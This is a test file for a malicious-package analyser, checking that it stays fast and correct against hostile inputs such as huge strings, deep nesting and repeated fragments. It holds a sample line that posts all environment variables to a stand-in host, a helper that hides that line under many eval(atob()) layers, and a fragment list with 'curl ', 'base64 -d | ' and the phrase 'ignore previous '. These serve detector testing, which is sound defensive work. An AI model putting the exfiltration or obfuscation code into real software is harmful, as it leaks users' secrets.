import assert from 'node:assert/strict';
import { analysePackage } from '../../../server/src/artifacts/analysis/analyse.js';
import type { ArtifactFacts } from '../../../server/src/model/index.js';
import { packageOf } from '../../support/artifacts.js';

/** What a regular expression with a repetition in a repetition would never come to the end of. */
const REPEATED = [
  ...['a', '\t', ' ', '(', '[', '/*', '\\x', '\\u', '"\\', "'", '$(', '`${', '<script ', '<!--', 'curl ', 'eval('],
  ...[
    'require(',
    'import ',
    'process.env.',
    'base64 -d | ',
    'https://',
    'ignore previous ',
    '[[]()!+]',
    'for(',
    '){',
    '\n',
  ],
];
const ENDINGS = ['js', 'ts', 'md', 'sh', 'json', 'html', 'svg', 'py', 'ps1', 'yml', 'gyp', 'npmrc'];
/** With time that grows by the square, this would take minutes. */
const LENGTH = 200_000;

const STEALS = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;

function analyse(code: string): ArtifactFacts {
  return analysePackage(packageOf({ 'index.js': code }));
}

function flowsIn({ flows }: ArtifactFacts): readonly string[] {
  return [...new Set(flows.map(({ source, sink }) => `${source}>${sink}`))];
}

/** Each layer decodes and runs the next. */
function layers(count: number): string {
  let code = STEALS;
  for (let layer = 0; layer < count; layer += 1) code = `eval(atob("${Buffer.from(code).toString('base64')}"))`;
  return code;
}

describe('analysePackage, of what is made to break it', () => {
  for (const piece of REPEATED) {
    it(`comes to an end with ${JSON.stringify(piece)} again and again`, () => {
      const text = piece.repeat(Math.ceil(LENGTH / piece.length));
      const files = ENDINGS.map((ending) => [`file.${ending}`, `${text}x`] as const);
      const artifact = analysePackage(packageOf({ ...Object.fromEntries(files), 'index.js': STEALS }));
      assert.deepEqual(flowsIn(artifact), ['environment>network']);
    });
  }

  it('sees what a text of many megabytes stands beside', () => {
    const text = 'x'.repeat(20_000_000);
    assert.deepEqual(flowsIn(analyse(`const text = "${text}"; ${STEALS}`)), ['environment>network']);
    assert.deepEqual(analyse(`const text = "${text}"; ${STEALS}`).incomplete, []);
  });

  it('knows that a constant is decoded and run, however large it is', () => {
    const large = Buffer.alloc(9_000_000, 'ab').toString('base64');
    assert.deepEqual(flowsIn(analyse(`eval(Buffer.from("${large}", 'base64').toString())`)), ['decoded>evaluated']);
  });

  it('goes into a few layers of code, and calls thirty of them what they are', () => {
    assert.ok(flowsIn(analyse(layers(8))).includes('environment>network'));
    assert.ok(analyse(layers(30)).behaviours.some(({ kind }) => kind === 'nested-code'));
  });

  it('says that it cannot read what is nested too deeply, and reads the rest', () => {
    const deep = `module.exports = ${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`;
    const { incomplete, ...artifact } = analysePackage(packageOf({ 'index.js': STEALS, 'lib/deep.js': deep }));
    assert.deepEqual(flowsIn({ ...artifact, incomplete }), ['environment>network']);
    const told = [...incomplete.map(({ file }) => file), ...artifact.notAnalysed.map(({ file }) => file)];
    assert.deepEqual([...new Set(told)], ['lib/deep.js']);
  });
});
